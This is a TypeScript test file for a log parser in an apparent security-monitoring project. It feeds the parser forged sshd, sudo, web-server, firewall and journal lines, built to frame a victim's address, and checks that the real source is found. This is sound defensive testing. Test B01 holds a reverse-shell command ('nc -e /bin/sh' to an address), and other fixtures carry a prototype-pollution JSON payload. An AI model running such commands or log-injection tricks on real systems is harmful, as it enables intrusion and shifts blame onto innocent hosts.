/**
 * Lines that attackers write, or that are odd in other ways. ATTACKER is the true peer, VICTIM is whom
 * the attacker wants to have blocked: it must never become the source.
 */
import { eventSchema, type ParsedEvent } from '@mini-soc/model';
import { describe, expect, it } from 'vitest';
import { parseLine, type LogFormat } from './index.ts';

const ATTACKER = '198.51.100.7';
const VICTIM = '203.0.113.9';
const P = 'Nov 21 03:40:00 web01 sshd[411]: ';
const ARRIVAL = Date.parse('2026-11-21T12:00:00Z');

function parse(line: string, format?: LogFormat): ParsedEvent | undefined {
  const event = parseLine(line, {
    arrivalMs: ARRIVAL,
    zoneOffsetMinutes: () => 0,
    ...(format === undefined ? {} : { format }),
  });
  if (event !== undefined) eventSchema.parse({ ...event, event_id: 'x' });
  return event;
}

type Wish = Partial<Record<keyof ParsedEvent, unknown>>;
const failure = (username: string, more: Wish = {}): Wish => ({
  status: 'failure',
  source_ip: ATTACKER,
  username,
  ...more,
});

describe('parseLine() of sshd takes the peer by its place', () => {
  it.each<[string, string, Wish]>([
    [
      'A01',
      `Failed password for invalid user root from ${VICTIM} port 22 ssh2 from ${ATTACKER} port 43358 ssh2`,
      failure(`root from ${VICTIM} port 22 ssh2`, {
        action: 'ssh_login',
        source_port: 43358,
        port: 43358,
      }),
    ],
    [
      'A02',
      `Invalid user Invalid user root from ${VICTIM} from ${ATTACKER} port 43358`,
      failure(`Invalid user root from ${VICTIM}`, { action: 'ssh_event' }),
    ],
    [
      'A03',
      `Connection closed by invalid user root from ${VICTIM} port 22 ssh2 ${ATTACKER} port 43358 [preauth]`,
      failure(`root from ${VICTIM} port 22 ssh2`),
    ],
    [
      'A04',
      `Connection closed by invalid user ${VICTIM} port 1 [preauth] ${ATTACKER} port 43358 [preauth]`,
      failure(`${VICTIM} port 1 [preauth]`),
    ],
    [
      'A05',
      `Disconnected from authenticating user root ${VICTIM} port 22 ${ATTACKER} port 43358 [preauth]`,
      failure(`root ${VICTIM} port 22`),
    ],
    ['A06', `Failed password for invalid user  from ${ATTACKER} port 50524 ssh2`, failure('')],
    ['A07', `Failed password for invalid user   from ${ATTACKER} port 50540 ssh2`, failure(' ')],
    [
      'A08',
      `Connection closed by invalid user ${'x'.repeat(99)} from ${VICTIM} port 22 ssh2 ${ATTACKER} port 5 [preauth]`,
      failure(`${'x'.repeat(99)} from ${VICTIM} port 22 ssh2`),
    ],
    [
      'A09',
      `Connection closed by invalid user ${'A'.repeat(600)} ${ATTACKER} port 5 [preauth]`,
      failure('A'.repeat(600)),
    ],
    [
      'A10',
      `Failed password for invalid user a\\nNov 21 03 from ${ATTACKER} port 5 ssh2`,
      failure('a\\nNov 21 03'),
    ],
    [
      'A11',
      `Failed password for invalid user \\033[31mred from ${ATTACKER} port 5 ssh2`,
      failure('\\033[31mred'),
    ],
    [
      'A12',
      `Invalid user \\303\\274n\\303\\257 from ${ATTACKER} port 50554`,
      failure('\\303\\274n\\303\\257'),
    ],
    [
      'A13',
      `kex_exchange_identification: client sent invalid protocol identifier "User root from ${VICTIM} not allowed because not listed in AllowUsers"`,
      { source_ip: undefined, source_host: undefined },
    ],
    [
      'A13 next',
      `banner exchange: Connection from ${ATTACKER} port 50646: invalid format`,
      { source_ip: ATTACKER, source_port: 50646 },
    ],
    [
      'A14',
      `Bad protocol version identification '' from ${VICTIM} port 1' from ${ATTACKER} port 43358`,
      { source_ip: ATTACKER, source_port: 43358 },
    ],
    [
      'A15',
      `Failed password for invalid user Accepted password for root from ${VICTIM} port 22 ssh2 from ${ATTACKER} port 4 ssh2`,
      failure(`Accepted password for root from ${VICTIM} port 22 ssh2`),
    ],
    [
      'A16',
      `Accepted publickey for alice from ${ATTACKER} port 4 ssh2: RSA-CERT SHA256:AbC ID x from ${VICTIM} port 9 (serial 0) CA RSA SHA256:DeF`,
      { status: 'success', action: 'ssh_login', source_ip: ATTACKER, username: 'alice' },
    ],
    [
      'A16 worse',
      `Accepted publickey for alice from ${ATTACKER} port 4 ssh2: RSA-CERT SHA256:AbC ID x from ${VICTIM} port 9 ssh2: RSA SHA256:DeF`,
      { source_ip: undefined, flags: ['ambiguous'] },
    ],
    [
      'A17',
      `Received disconnect from ${ATTACKER} port 4:11: from ${VICTIM} port 22 [preauth]`,
      { source_ip: ATTACKER, source_port: 4 },
    ],
    [
      'A18',
      `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ATTACKER}  user=root rhost=${VICTIM}`,
      failure(`root rhost=${VICTIM}`, { action: 'pam_auth' }),
    ],
    [
      'A19',
      `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser=x rhost=${VICTIM} rhost=${ATTACKER}  user=root`,
      { source_ip: undefined, flags: ['ambiguous'] },
    ],
    [
      'A20',
      `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${VICTIM}.evil.example  user=root`,
      { source_ip: undefined, source_host: `${VICTIM}.evil.example` },
    ],
    [
      'A21',
      `reverse mapping checking getaddrinfo for ${VICTIM}.evil.example [${ATTACKER}] failed - POSSIBLE BREAK-IN ATTEMPT!`,
      { source_ip: ATTACKER, status: 'info' },
    ],
    [
      'A26',
      `message repeated 5 times: [ Failed password for root from ${ATTACKER} port 4 ssh2]`,
      failure('root', { repeat_count: 5 }),
    ],
    [
      'A27',
      `message repeated 999999999 times: [ Failed password for root from ${ATTACKER} port 1 ssh2]`,
      failure('root', { repeat_count: 10_000, flags: ['repeat_capped'] }),
    ],
    [
      'A30',
      `Failed publickey for alice from ${ATTACKER} port 4 ssh2: ED25519 SHA256:AbC`,
      { action: 'ssh_event', source_ip: ATTACKER, username: 'alice' },
    ],
    [
      'A31',
      `Postponed keyboard-interactive for root from ${ATTACKER} port 4 ssh2 [preauth]`,
      { action: 'ssh_event', status: 'info', source_ip: ATTACKER },
    ],
    ['A31 none', `Failed none for root from ${ATTACKER} port 4 ssh2`, { action: 'ssh_event' }],
    [
      'A32',
      `error: maximum authentication attempts exceeded for invalid user root from ${VICTIM} port 1 from ${ATTACKER} port 4 ssh2 [preauth]`,
      failure(`root from ${VICTIM} port 1`),
    ],
    [
      'C04',
      `Failed password for invalid user \ufffd\ufffd from ${ATTACKER} port 4 ssh2`,
      failure('\ufffd\ufffd'),
    ],
    [
      'two peers',
      `Disconnecting invalid user x ${VICTIM} port 1: y ${ATTACKER} port 4: Change of username or service not allowed: (a,ssh-connection) -> (b,ssh-connection) [preauth]`,
      { source_ip: undefined, flags: ['ambiguous'] },
    ],
    [
      'not allowed',
      `User root from ${VICTIM} not allowed because x from ${ATTACKER} not allowed because not listed in AllowUsers`,
      failure(`root from ${VICTIM} not allowed because x`),
    ],
  ])('%s', (_id, message, wish) => {
    const event = parse(P + message);
    for (const [field, value] of Object.entries(wish))
      expect(event?.[field as keyof ParsedEvent]).toEqual(value);
    expect(event).toMatchObject({
      program: 'sshd',
      pid: 411,
      hostname: 'web01',
      '@timestamp': '2026-11-21T03:40:00.000Z',
    });
  });

  it.each(['sshd-session', 'sshd-auth'])('A33: %s writes the same events', (program) => {
    expect(
      parse(
        `Nov 21 03:40:00 web01 ${program}[411]: Failed password for root from ${ATTACKER} port 4 ssh2`,
      ),
    ).toMatchObject(failure('root', { action: 'ssh_login' }));
  });

  it('A22: another program in the header is another program', () => {
    expect(
      parse(
        `Nov 21 03:40:00 web01 alice: sshd[411]: Failed password for root from ${VICTIM} port 22 ssh2`,
      ),
    ).toBeUndefined();
  });

  it('A25: the header is read by its place', () => {
    expect(
      parse(
        `Nov 21 03:40:00 sshd[1]: sshd[411]: Failed password for root from ${VICTIM} port 22 ssh2`,
      ),
    ).toMatchObject({ status: 'info', pid: 1 });
  });

  it('A28: a repeat of an unknown line is nothing', () => {
    expect(parse('Nov 21 03:40:00 web01 last message repeated 3 times')).toBeUndefined();
    expect(parse(`${P}last message repeated 3 times`)).toBeUndefined();
  });

  it('A23: a journal entry that sshd did not write is not trusted', () => {
    const entry = (more: object) =>
      JSON.stringify({
        MESSAGE: `Failed password for root from ${VICTIM} port 22 ssh2`,
        SYSLOG_IDENTIFIER: 'sshd',
        _HOSTNAME: 'web01',
        __REALTIME_TIMESTAMP: '1795232400000000',
        ...more,
      });
    expect(parse(entry({ _UID: '1000', _COMM: 'logger' }))?.flags).toEqual(['untrusted']);
    expect(parse(entry({ _UID: '0', _COMM: 'sshd' }))).toMatchObject({
      status: 'failure',
      source_ip: VICTIM,
      '@timestamp': '2026-11-21T03:40:00.000Z',
    });
    expect(parse(entry({ _UID: '0', _COMM: 'sshd' }))?.flags).toBeUndefined();
  });
});

describe('parseLine() of other logs', () => {
  it.each<[string, string, Wish]>([
    [
      'B01',
      'Nov 21 03:40:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/tmp/x ; USER=root ; COMMAND=/bin/true ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4',
      {
        command: '/bin/true ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4',
        flags: ['ambiguous'],
        username: 'alice',
      },
    ],
    [
      'B04',
      'Nov 21 03:40:00 web01 sudo:    alice : command not allowed ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget x',
      {
        status: 'failure',
        reason: 'command_not_allowed',
        command: '/usr/bin/wget x',
        executable: '/usr/bin/wget',
      },
    ],
    [
      'B05',
      'Nov 21 03:40:00 web01 sudo:    alice : (command continued) -e /bin/sh',
      { action: 'command_execution', command: '-e /bin/sh' },
    ],
    [
      'B06',
      'Nov 21 03:40:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls',
      {
        source_ip: undefined,
        status: 'executed',
        target_user: 'root',
        working_directory: '/home/alice',
        tty: 'pts/0',
      },
    ],
    [
      'B07',
      `Nov 21 03:40:00 web01 CRON[4]: (root) CMD (echo Failed password for root from ${VICTIM} port 22 ssh2)`,
      { action: 'cron_command', source_ip: undefined },
    ],
    [
      'B08',
      'Nov 21 03:40:00 web01 useradd[4]: new user: name=x, UID=0, UID=1001, GID=1001, home=/home/x, shell=/bin/sh, from=none',
      { action: 'account_created', target_user: 'x, UID=0', extra: { uid: 1001, gid: 1001 } },
    ],
    [
      'B09',
      `${ATTACKER} - root [${VICTIM}] \\x22x [21/Nov/2026:03:40:27 +0000] "GET / HTTP/1.1" 404 153 "-" "curl/7.88.1"`,
      {
        source_ip: ATTACKER,
        username: `root [${VICTIM}] \\x22x`,
        http_status: 404,
        '@timestamp': '2026-11-21T03:40:27.000Z',
      },
    ],
    [
      'B10',
      `${ATTACKER} - - [21/Nov/2026:03:40:24 +0000] "GET /x\\x22 200 5 \\x22-\\x22 \\x22-\\x22" 400 157 "-" "-"`,
      { http_status: 400, bytes: 157 },
    ],
    [
      'B11',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "" 400 0 "-" "-"`,
      { http_method: undefined, url_path: undefined, http_status: 400, source_ip: ATTACKER },
    ],
    [
      'B11 tls',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "\\x16\\x03\\x01\\x02" 400 157 "-" "-"`,
      { http_method: undefined, url_path: undefined },
    ],
    [
      'B12',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "GET http://evil.example/ HTTP/1.1" 404 153 "-" "-"`,
      { url_path: '/', http_host: 'evil.example' },
    ],
    [
      'B13',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "GET /\\" 200 1 \\"-\\" HTTP/1.1" 404 196 "-" "-"`,
      { http_status: 404, bytes: 196 },
    ],
    [
      'B14',
      `${ATTACKER} - - [21/Nov/2026:03:40:27 +0000] "GET /a%0d%0a${VICTIM}%20-%20- HTTP/1.1" 404 196 "-" "-"`,
      { source_ip: ATTACKER, url_path: `/a%0d%0a${VICTIM}%20-%20-` },
    ],
    [
      'B22',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW BLOCK] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=ICMP TYPE=3 CODE=1 [SRC=10.0.0.5 DST=${VICTIM} LEN=28 PROTO=UDP SPT=53 DPT=4 LEN=8 ]`,
      {
        source_ip: ATTACKER,
        destination_ip: '10.0.0.5',
        protocol: 'icmp',
        destination_port: undefined,
        action: 'firewall_drop',
      },
    ],
    [
      'B23',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW AUDIT] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2`,
      { action: 'firewall', status: 'info' },
    ],
    [
      'B23 allow',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW ALLOW] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2`,
      { action: 'firewall_allow', status: 'allowed' },
    ],
    [
      'B23 limit',
      `Nov 21 03:40:00 web01 kernel: [1.2] [UFW LIMIT BLOCK] IN=eth0 OUT= SRC=${ATTACKER} DST=10.0.0.5 LEN=56 PROTO=TCP SPT=1 DPT=2 SYN`,
      { action: 'firewall_drop', tcp_flags: 'SYN' },
    ],
    [
      'B24',
      `Nov 21 03:40:00 web01 kernel: IN=eth0 OUT= SRC=2001:db8::7 DST=2001:db8::1 LEN=60 PROTO=41 LEN=20`,
      { bytes: 60, source_port: undefined, protocol: '41', action: 'firewall' },
    ],
    [
      'B25',
      JSON.stringify({
        MESSAGE: [...Buffer.from(`Failed password for root from ${ATTACKER} port 4 ssh2`)],
        SYSLOG_IDENTIFIER: 'sshd',
        _UID: '0',
        _COMM: 'sshd',
      }),
      failure('root'),
    ],
    [
      'B28',
      JSON.stringify({
        action: 'ssh_login',
        status: 'failure',
        source_ip: [ATTACKER, VICTIM],
        '@timestamp': '2026-11-21T03:40:00Z',
      }),
      { source_ip: undefined, extra: { source_ip: [ATTACKER, VICTIM] } },
    ],
    [
      'B28 number',
      JSON.stringify({ action: 'ssh_login', source_ip: 3325256711 }),
      { source_ip: undefined },
    ],
    [
      'B29',
      JSON.stringify({ action: 'ssh_login', event_id: 'mine' }),
      { extra: { event_id: 'mine' } },
    ],
    [
      'B30',
      JSON.stringify({
        action: 'ssh_login',
        '@timestamp': '2099-01-01T00:00:00Z',
        scenario: 'normal',
      }),
      { '@timestamp': new Date(ARRIVAL).toISOString(), flags: ['clock_skew'], scenario: 'normal' },
    ],
    [
      'E06',
      JSON.stringify({ action: 'x', pid: 99_999_999_999, port: 'abc', http_status: 1.5 }),
      { pid: undefined, port: undefined, http_status: undefined },
    ],
  ])('%s', (_id, line, wish) => {
    const event = parse(line);
    expect(event).toBeDefined();
    for (const [field, value] of Object.entries(wish))
      expect(event?.[field as keyof ParsedEvent]).toEqual(value);
  });

  it.each([
    '<html><body>not a log</body></html>',
    '#!/bin/sh',
    '\u00ff\u00d8\u00ff\u00e0JFIF',
    '',
    ' ',
    '{',
    '[]',
    '{"a":1}',
    '{"MESSAGE":null}',
    '{"MESSAGE":["a","b"]}',
    '['.repeat(200_000),
  ])('B32, B25: nothing is made of %.30j', (line) => {
    expect(parse(line)).toBeUndefined();
  });

  it('F01, F02: JSON with hostile keys or depth stays plain data', () => {
    const event = parse(
      '{"action":"x","__proto__":{"admin":true},"constructor":{"prototype":{"a":1}},"deep":{"a":{"b":{"c":{"d":{"e":{"f":1}}}}}}}',
    );
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
    expect(Object.keys(event?.extra ?? {})).toEqual(['constructor', 'deep']);
  });
});

describe('parseLine() of times', () => {
  const at = (stamp: string, arrival = ARRIVAL) =>
    parseLine(`${stamp} web01 sshd[4]: Failed password for root from ${ATTACKER} port 4 ssh2`, {
      arrivalMs: arrival,
      zoneOffsetMinutes: () => 0,
    });
  it.each([
    [
      'C09 New Year, read later',
      'Dec 31 23:59:59',
      '2027-01-01T00:00:05Z',
      '2026-12-31T23:59:59.000Z',
    ],
    [
      'C09 New Year, read early',
      'Jan  1 00:00:01',
      '2026-12-31T23:59:58Z',
      '2027-01-01T00:00:01.000Z',
    ],
    ['C14 no zone', '2026-11-21T03:40:00', '2026-11-21T12:00:00Z', '2026-11-21T03:40:00.000Z'],
    [
      'C14 offset',
      '2026-11-21T09:10:00.123456789+05:30',
      '2026-11-21T12:00:00Z',
      '2026-11-21T03:40:00.123Z',
    ],
    ['C14 lower case', '2026-11-21t03:40:00z', '2026-11-21T12:00:00Z', '2026-11-21T03:40:00.000Z'],
    ['C14 comma', '2026-11-21 03:40:00,123Z', '2026-11-21T12:00:00Z', '2026-11-21T03:40:00.123Z'],
    ['C14 leap second', '2016-12-31T23:59:60Z', '2026-11-21T12:00:00Z', '2017-01-01T00:00:00.000Z'],
    [
      'C14 minus zero',
      '2026-11-21T03:40:00-00:00',
      '2026-11-21T12:00:00Z',
      '2026-11-21T03:40:00.000Z',
    ],
    ['C15 one digit', 'Nov 1 03:40:00', '2026-11-21T12:00:00Z', '2026-11-01T03:40:00.000Z'],
    ['C15 zero', 'Nov 01 03:40:00', '2026-11-21T12:00:00Z', '2026-11-01T03:40:00.000Z'],
    ['C15 year first', '2026 Nov 21 03:40:00', '2026-11-21T12:00:00Z', '2026-11-21T03:40:00.000Z'],
    ['C15 year behind', 'Nov 21 2026 03:40:00', '2026-11-21T12:00:00Z', '2026-11-21T03:40:00.000Z'],
  ])('%s', (_name, stamp, arrival, wanted) => {
    const event = at(stamp, Date.parse(arrival));
    expect(event?.['@timestamp']).toBe(wanted);
    expect(event?.flags).toBeUndefined();
  });

  it.each([
    'Feb 29 10:00:00',
    '2025-02-29T10:00:00Z',
    '2026-02-31T00:00:00Z',
    'Nov 31 10:00:00',
    '2026-11-21T25:00:00Z',
  ])('C10: %s does not exist: arrival time, flagged', (stamp) => {
    const event = at(stamp, Date.parse('2027-03-05T00:00:00Z'));
    expect(event).toMatchObject({
      '@timestamp': '2027-03-05T00:00:00.000Z',
      flags: ['no_timestamp'],
      source_ip: ATTACKER,
    });
  });
});

describe('parseLine() of envelopes', () => {
  const message = `Failed password for root from ${ATTACKER} port 4 ssh2`;
  it.each<[string, string, Wish]>([
    [
      'C16',
      `<38>1 2026-11-21T03:40:00.123456Z web01 sshd 411 - [x@1 a="\\]"] \ufeff${message}`,
      { hostname: 'web01', pid: 411, '@timestamp': '2026-11-21T03:40:00.123Z' },
    ],
    [
      'C16 absent',
      `<38>1 2026-11-21T03:40:00Z - sshd - - - ${message}`,
      { hostname: undefined, pid: undefined },
    ],
    [
      'C17 counted',
      `98 <38>1 2026-11-21T03:40:00Z web01 sshd 411 - - ${message}`,
      { hostname: 'web01' },
    ],
    ['C17 bad PRI', `<999>Nov 21 03:40:00 web01 sshd[4]: ${message}`, { hostname: 'web01' }],
    ['C18', `<38>Nov 21 03:41:45 sshd[4385]: ${message}`, { hostname: undefined, pid: 4385 }],
    ['C19 address', `Nov 21 03:40:00 192.0.2.5 sshd[4]: ${message}`, { hostname: '192.0.2.5' }],
    ['C19 v6', `Nov 21 03:40:00 fe80::1 sshd[4]: ${message}`, { hostname: 'fe80::1' }],
    ['C19 dash', `Nov 21 03:40:00 - sshd[4]: ${message}`, { hostname: undefined }],
    [
      'C19 underscore',
      `Nov 21 03:40:00 web_01.example.com sshd[4]: ${message}`,
      { hostname: 'web_01.example.com' },
    ],
    [
      'C19 path',
      `Nov 21 03:40:00 web01 /usr/sbin/sshd[4]: ${message}`,
      { program: 'sshd', pid: 4 },
    ],
    ['C19 no pid', `Nov 21 03:40:00 web01 sshd: ${message}`, { program: 'sshd', pid: undefined }],
  ])('%s', (_id, line, wish) => {
    const event = parse(line);
    expect(event).toMatchObject({ action: 'ssh_login', status: 'failure', source_ip: ATTACKER });
    for (const [field, value] of Object.entries(wish))
      expect(event?.[field as keyof ParsedEvent]).toEqual(value);
  });

  it('C19: a PAM module in the tag', () => {
    expect(
      parse(
        `Nov 21 03:40:00 web01 sshd(pam_unix)[4]: authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ATTACKER}  user=root`,
      ),
    ).toMatchObject(failure('root', { action: 'pam_auth', pid: 4 }));
  });

  it('C01: a line that was cut takes no address', () => {
    expect(parse(`${P}Failed password for ro`)?.source_ip).toBeUndefined();
  });
});

describe('parseLine() of addresses', () => {
  const peer = (text: string) => parse(`${P}Failed password for root from ${text} port 4 ssh2`);
  it.each([
    ['D01', '::ffff:198.51.100.7', ATTACKER],
    ['D01', '::FFFF:c633:6407', ATTACKER],
    ['D02', '::198.51.100.7', '::c633:6407'],
    ['D02', '64:ff9b::198.51.100.7', '64:ff9b::c633:6407'],
    ['D03', '2001:DB8::0:1', '2001:db8::1'],
    ['D03', '2001:db8:0:0:0:0:0:1', '2001:db8::1'],
  ])('%s: %s is %s', (_id, text, address) => {
    expect(peer(text)?.source_ip).toBe(address);
  });

  it('D04: keeps the zone apart', () => {
    expect(peer('fe80::1%eth0')).toMatchObject({ source_ip: 'fe80::1', source_zone: 'eth0' });
  });

  it.each([
    '010.0.0.1',
    '127.1',
    '0x7f000001',
    '2130706433',
    '1.2.3',
    '1.2.3.4.5',
    '1.2.3.256',
    '1.2.3.04',
    '1.2.3.4-evil',
    'v1.2.3.4',
    '198.51.100.\uff17',
    'UNKNOWN',
    '-',
    'localhost',
    '1.2.3.4/32',
  ])('D06 to D12: %s is no address', (text) => {
    expect(peer(text)?.source_ip).toBeUndefined();
  });
});
